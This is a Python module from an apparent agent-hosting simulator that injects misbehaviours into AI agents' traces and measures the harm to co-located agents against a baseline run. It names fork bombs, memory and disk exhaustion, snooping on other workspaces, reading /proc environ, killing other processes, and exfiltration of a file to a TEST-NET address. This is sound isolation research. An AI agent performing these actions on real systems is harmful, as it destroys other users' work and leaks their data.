"""Misbehaving agents: what a prompt injection or a bug makes an agent do, and the harm.

``--misbehave KIND[,KIND][:M]`` marks M of the N agents (default 1, chosen from the
seed); each of them performs every KIND, in order, as extra tool calls of its trace
right after its workspace is set up (:func:`inject`). The agent really does it, with
system calls in its own container (workloads/src/agent.c ``misbehave``):

============  ===================================================================
kind          what the agent does
============  ===================================================================
forkbomb      forks more children than the task table holds (:func:`forkbomb_children`),
              that sleep, then exec /bin/true
memhog        mallocs and touches :data:`MEMHOG_MIB` MiB, and keeps it
fillfs        writes its workspace until ENOSPC (at most :data:`FILLFS_MIB` MiB)
snoop         reads and appends to the files of the other workspaces under /work
probe         lists /proc, reads the other processes' cmdline and environ (which
              other agents' processes it saw is read from their cmdlines)
killer        the same, then SIGKILLs every process it found
exfil         connects to :data:`FORBIDDEN_PEER` and sends a workspace file
spin          a runaway loop of :data:`SPIN_MILLIONS` million iterations
flood         :data:`FLOOD_REQUESTS` requests of :data:`FLOOD_TOKENS` prompt tokens
============  ===================================================================

Every run with misbehaviour is paired with a baseline run: the same seed and trace
without the injected calls, on the same machine. The harm to each *other* agent is
what differs, observed and not assumed: died (a non-zero exit, or a signal),
hung (still running when the machine stopped at :data:`HANG_FACTOR` x the
baseline's time, and at least :data:`HANG_FLOOR_NS` past it), tasks lost, its
tools' resource failures (fork, create, a short write), its mean task latency
against the baseline's, and the files of its workspace the misbehaving agents
really read or changed (their successful calls).
What a misbehaving agent saw is its own report: the pids listed in /proc and the
kernel's task count (/proc/loadavg's total, the kernel domain's).

Under ``processes`` (every agent a process of one container) each agent's part of
the container's output is read apart (:func:`agent_runs`): an agent that printed no
part died with the container, or was still running when the machine stopped.

The machine is scaled down so that a few agents can exhaust it
(:data:`SCALED_RAM`, :data:`SCALED_DISK`, :data:`THREADS_PER_AGENT` tasks per agent
in a shared kernel's table; each agent's
own limits are the container's reservation: :data:`AGENT_MEMORY`, and a disk quota
:data:`AGENT_DISK` larger than the shared disk).
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass, replace
from typing import Any

from cofferos.coffers.coffer import CofferConfig
from cofferos.errors import ConfigError
from cofferos.sim.agents import scenario as scenarios
from cofferos.sim.agents.experiment import run_hosting
from cofferos.sim.agents.measures import parse_agent
from cofferos.sim.agents.model import ModelServer
from cofferos.sim.agents.scenario import Turn
from cofferos.sim.experiment import RunReport
from cofferos.sim.machine import Machine, MachineConfig

MIB = 1 << 20
#: E: a fork bomb forks this many children more than the scaled task table holds
FORKBOMB_MARGIN = 16
FORKBOMB_HOLD_US = 2_000_000  #: E: the children live 2 s, overlapping the others' tools
MEMHOG_MIB = 768  #: E: more than its reservation, three quarters of the scaled RAM
FILLFS_MIB = 96  #: E: more than the scaled disk
SPIN_MILLIONS = 40  #: E: a runaway loop of about 0.1 s of one core at 3 GHz
FLOOD_REQUESTS = 6  #: E: a burst of requests, one after another
FLOOD_TOKENS = 32_000  #: E: a huge prompt (32k tokens: 3.2 s of prefill at the defaults)
#: TEST-NET-3 (RFC 5737): an address no agent is meant to reach.
FORBIDDEN_PEER = ("203.0.113.7", 443)
KINDS: dict[str, str] = {
    "forkbomb": "forkbomb {children} " + str(FORKBOMB_HOLD_US),
    "memhog": f"memhog {MEMHOG_MIB}",
    "fillfs": f"fillfs {FILLFS_MIB}",
    "snoop": "snoop",
    "probe": "probe",
    "killer": "killer",
    "exfil": f"exfil {FORBIDDEN_PEER[0]} {FORBIDDEN_PEER[1]}",
    "spin": f"spin {SPIN_MILLIONS}",
    "flood": "flood",
}
SCALED_RAM = 1024 * MIB  #: E: a small host, so that one hog matters
SCALED_DISK = 64 * MIB  #: E: a small host disk
#: E: a shared kernel's task table per agent (48 for 3 agents; Linux's PID_MAX_DEFAULT
#: is 32768): room for an agent, its shell and a pipeline's children, and a fork bomb's
#: need to fill it
THREADS_PER_AGENT = 16
#: Agents the scaled machine is sized for when no count is given (the tests' 3).
SCALED_FOR = 3
AGENT_MEMORY = 512 * MIB  #: E: each container's memory reservation (cgroup or VM size)
#: Each container's own disk quota: above the disk (overlayfs has no quota by default;
#: a VM's or a coffer's disk is its own, this big).
AGENT_DISK = 4 * SCALED_DISK
HANG_FACTOR = 4  #: E: a victim still running at 4x the baseline's time counts as hung
HANG_FLOOR_NS = 10_000_000_000  #: E: ... and at least 10 s after the baseline's end
#: A probed process's cmdline file, and where an agent's cmdline names the agent
#: (workloads/src/agent.c: ``agent SERVER PORT ID WORKSPACE``).
CMDLINE = "/cmdline"
AGENT_PROGRAM = "agent"
AGENT_ID_ARG = 3
#: Seeds of the choice of misbehaving agents (apart from the trace's).
CHOICE_SEED_STRIDE = 7_919


@dataclass(frozen=True)
class Misbehaviour:
    """Which misbehaviours, and how many agents do them."""

    kinds: tuple[str, ...]
    agents: int = 1

    @property
    def label(self) -> str:
        return f"{','.join(self.kinds)}:{self.agents}"


def parse(text: str) -> Misbehaviour:
    """``KIND[,KIND][:M]`` (a one-line ConfigError when bad)."""
    spec, colon, count = str(text).partition(":")
    kinds = tuple(kind.strip() for kind in spec.split(",") if kind.strip())
    if not kinds:
        raise ConfigError(f"--misbehave {text!r}: expected KIND[,KIND][:M]")
    unknown = [kind for kind in kinds if kind not in KINDS]
    if unknown:
        raise ConfigError(f"--misbehave: unknown kind {unknown[0]!r}; choose from "
                          f"{', '.join(KINDS)}")
    if colon and (not count.isdigit() or int(count) < 1):
        raise ConfigError(f"--misbehave {text!r}: M must be a whole number of at least 1")
    return Misbehaviour(kinds, int(count) if colon else 1)


def choose(misbehaviour: Misbehaviour, agents: int, seed: int) -> list[int]:
    """The misbehaving agents: M of ``agents``, drawn from ``seed`` (sorted)."""
    if misbehaviour.agents > agents:
        raise ConfigError(f"--misbehave {misbehaviour.label}: {misbehaviour.agents} "
                          f"misbehaving agents but only {agents} agents")
    draw = random.Random(seed * CHOICE_SEED_STRIDE + agents)
    return sorted(draw.sample(range(agents), misbehaviour.agents))


def forkbomb_children(agents: int) -> int:
    """A fork bomb's children: more than the scaled task table of ``agents`` holds."""
    return THREADS_PER_AGENT * agents + FORKBOMB_MARGIN


def call_of(kind: str, agents: int) -> str:
    """The agent's call that does ``kind`` on the machine scaled for ``agents``."""
    return KINDS[kind].format(children=forkbomb_children(agents))


def inject(turns: list[Turn], chosen: list[int], kinds: tuple[str, ...],
           setup_calls: int, agents: int = SCALED_FOR) -> list[Turn]:
    """The trace with each chosen agent's misbehaviours after its first ``setup_calls``
    turns (the workspace's writes); other agents' turns are untouched. ``agents``:
    the machine's scale (the fork bomb's size)."""
    out: list[Turn] = []
    seen: dict[int, int] = {}
    for turn in turns:
        index = seen[turn.agent] = seen.get(turn.agent, -1) + 1
        if turn.agent in chosen and index == setup_calls:
            for kind in kinds:
                if kind == "flood":
                    out += [replace(turn, in_tokens=FLOOD_TOKENS, think_us=0,
                                    call=call_of(kind, agents))] * FLOOD_REQUESTS
                else:
                    out.append(replace(turn, think_us=0, call=call_of(kind, agents)))
        out.append(turn)
    return out


def machine(agents: int = SCALED_FOR) -> MachineConfig:
    """The scaled-down machine of a misbehaviour run (and of its baseline) of ``agents``."""
    return MachineConfig(memory_bytes=SCALED_RAM, disk_bytes=SCALED_DISK,
                         threads_max=THREADS_PER_AGENT * agents)


def agent_limits(config: CofferConfig) -> CofferConfig:
    """An agent's own limits on the scaled machine."""
    return replace(config, memory_limit=AGENT_MEMORY, disk_limit=AGENT_DISK)


def hang_limit_ns(baseline: RunReport) -> int:
    """When the misbehaving run is stopped: what still runs then is hung."""
    elapsed = baseline.machine.elapsed_ns
    return int(max(HANG_FACTOR * elapsed, elapsed + HANG_FLOOR_NS))


def reports(stdout: bytes) -> dict[str, Any]:
    """What a misbehaving agent printed: its misbehaviours (kind, start and end ns, what
    it achieved as key=value), the paths it read and changed, the processes it saw (the
    pids it listed, the agents among them by their cmdlines, the kernel's task count)."""
    found: dict[str, Any] = {"done": [], "read": [], "changed": [], "tasks_seen": None,
                             "pids_seen": 0, "agents_seen": set(), "cmdlines": {}}
    for line in stdout.decode(errors="replace").splitlines():
        words = line.split()
        if words[:1] == ["misbehave"] and len(words) >= 4:
            what = dict(word.partition("=")[::2] for word in words[4:])
            found["done"].append({"kind": words[1], "start_ns": int(words[2]),
                                  "end_ns": int(words[3]),
                                  **{k: int(v) for k, v in what.items() if k != "unused"}})
            if words[1] in ("probe", "killer"):
                found["pids_seen"] = max(found["pids_seen"], int(what.get("pids", 0)))
        elif words[:2] == ["snooped", "read"] and len(words) == 3:
            found["read"].append(words[2])
        elif words[:2] == ["snooped", "changed"] and len(words) == 3:
            found["changed"].append(words[2])
        elif words[:2] == ["probed", "tasks"] and len(words) == 3:
            found["tasks_seen"] = int(words[2])
        elif words[:1] == ["probed"] and len(words) > 2 and words[1].endswith(CMDLINE):
            pid = int(words[1].split("/")[2])
            found["cmdlines"][pid] = " ".join(words[2:])
            agent = agent_of_cmdline(words[2:])
            if agent is not None:
                found["agents_seen"].add(agent)
    return found


def agent_of_cmdline(argv: list[str]) -> int | None:
    """The agent a process's arguments name (``agent SERVER PORT ID WORKSPACE``), if any."""
    if len(argv) > AGENT_ID_ARG and argv[0].rsplit("/", 1)[-1] == AGENT_PROGRAM \
            and argv[AGENT_ID_ARG].isdigit():
        return int(argv[AGENT_ID_ARG])
    return None


@dataclass(frozen=True)
class AgentRun:
    """How one agent's run ended, and what it printed."""

    name: str
    failed: bool
    """It ended with a non-zero status or a signal, before the time limit."""
    cut_off: bool
    """It was still running when the machine stopped."""
    stdout: bytes


def agent_runs(hosting_name: str, agents: int, report: RunReport) -> list[AgentRun]:
    """Each agent's run, in order: its own container's, or under ``processes`` its part
    of the one container's output (no part: the container was cut off, or killed)."""
    from cofferos.sim.agents.hosting import hosting, split_outputs
    from cofferos.sim.agents.measures import SERVICES

    mine = [c for c in report.containers if c.name not in SERVICES]
    if not hosting(hosting_name).one_container:
        return [AgentRun(c.name, c.failed, c.cut_off, c.stdout) for c in mine]
    shared = mine[0]
    return [AgentRun(f"agent{i}", status != 0 and not (status is None and shared.cut_off),
                     status is None and shared.cut_off, stdout)
            for i, (status, stdout) in enumerate(split_outputs(shared.stdout, agents))]


def _owner(path: str) -> str:
    """The agent whose workspace holds ``path`` (/work/aI/... -> agentI)."""
    parts = path.split("/")
    return f"agent{parts[2][1:]}" if len(parts) > 2 and parts[2].startswith("a") else ""


def _mean(values: list[float]) -> float | None:
    return sum(values) / len(values) if values else None


def harm(kernel: str, label: str, baseline: RunReport, bad: RunReport,
         chosen: list[int], agents: int | None = None,
         ) -> tuple[list[dict[str, Any]], dict[str, Any]]:
    """Per other agent, what the misbehaving run did to it against the baseline run;
    and one summary line (harm summed over the other agents, what the misbehaving
    agents saw). ``kernel``: the hosting model; ``agents``: how many (needed for
    ``processes``, whose one container holds them all)."""
    count = agents if agents is not None else sum(
        1 for c in baseline.containers if c.name.startswith(AGENT_PROGRAM))
    bad_names = {f"agent{i}" for i in chosen}
    before_runs, after_runs = (agent_runs(kernel, count, r) for r in (baseline, bad))
    seen = [reports(run.stdout) for run in after_runs if run.name in bad_names]
    read = [path for s in seen for path in s["read"]]
    changed = [path for s in seen for path in s["changed"]]
    cut_off = hang_limit_ns(baseline)
    rows: list[dict[str, Any]] = []
    for before, after in zip(before_runs, after_runs, strict=True):
        if after.name in bad_names:
            continue
        was, now = parse_agent(before.stdout), parse_agent(after.stdout)
        then = _mean([t["latency_ns"] for t in was["tasks"]])
        later = _mean([t["latency_ns"] for t in now["tasks"]])
        rows.append({
            "kernel": kernel, "misbehave": label, "agent": after.name,
            "died": after.failed and not before.failed,
            "hung": after.cut_off and not before.cut_off,
            "tasks_lost": max(len(was["tasks"]) - len(now["tasks"]), 0),
            "tool_errors": max((now["tool_errors"] or 0) - (was["tool_errors"] or 0), 0),
            "latency_change": (later / then - 1) if then and later else None,
            "files_read": sum(1 for path in read if _owner(path) == after.name),
            "files_changed": sum(1 for path in changed if _owner(path) == after.name),
        })
    harmed = [r for r in rows if r["died"] or r["hung"] or r["tasks_lost"] or r["tool_errors"]
              or r["files_read"] or r["files_changed"]]
    others = [max(s["pids_seen"], (s["tasks_seen"] or 1) - 1) for s in seen]
    agents_seen = {agent for s in seen for agent in s["agents_seen"]} - set(chosen)
    changes = [r["latency_change"] for r in rows if r["latency_change"] is not None]
    summary = {
        "kernel": kernel, "misbehave": label, "victims": len(rows), "harmed": len(harmed),
        "died": sum(r["died"] for r in rows), "hung": sum(r["hung"] for r in rows),
        "tasks_lost": sum(r["tasks_lost"] for r in rows),
        "tool_errors": sum(r["tool_errors"] for r in rows),
        "latency_change": max(changes) if changes else None,
        "files_read": len(read), "files_changed": len(changed),
        "others_seen": max(others) if others else 0,
        "agents_seen": len(agents_seen),
        "hang_limit_s": cut_off / 1e9,
    }
    return rows, summary


HARM_COLUMNS = ("kernel", "misbehave", "victims", "harmed", "died", "hung", "tasks_lost",
                "tool_errors", "latency_change", "files_read", "files_changed",
                "others_seen", "agents_seen")


def run_pair(kernel: str, agents: int, cores: int, seed: int, scenario: scenarios.Scenario,
             server: ModelServer, misbehaviour: Misbehaviour,
             agent_config: Callable[[int, CofferConfig], CofferConfig] | None = None,
             prepare: Callable[[Machine], None] | None = None, remote: bool = False,
             ) -> tuple[RunReport, RunReport, list[int]]:
    """The baseline run and the misbehaving run of one hosting model, on the scaled
    machine; ``agent_config`` and ``prepare`` (a policy) apply to the misbehaving run
    and its baseline alike; ``remote``: the services on a machine of their own
    (:mod:`.remote`). Returns both reports and the misbehaving agents."""
    chosen = choose(misbehaviour, agents, seed)
    turns = scenarios.trace(scenario, agents, seed)

    def configure(index: int, config: CofferConfig) -> CofferConfig:
        config = agent_limits(config)
        return agent_config(index, config) if agent_config is not None else config

    base = machine(agents)
    baseline = run_hosting(kernel, agents, cores, seed, scenario, server, turns=turns,
                           agent_config=configure, machine=base, prepare=prepare,
                           remote=remote)
    limit = hang_limit_ns(baseline)
    bad = run_hosting(kernel, agents, cores, seed, scenario, server,
                      turns=inject(turns, chosen, misbehaviour.kinds, scenario.files_count,
                                   agents),
                      agent_config=configure, machine=replace(base, until_ns=limit),
                      prepare=prepare, remote=remote)
    return baseline, bad, chosen
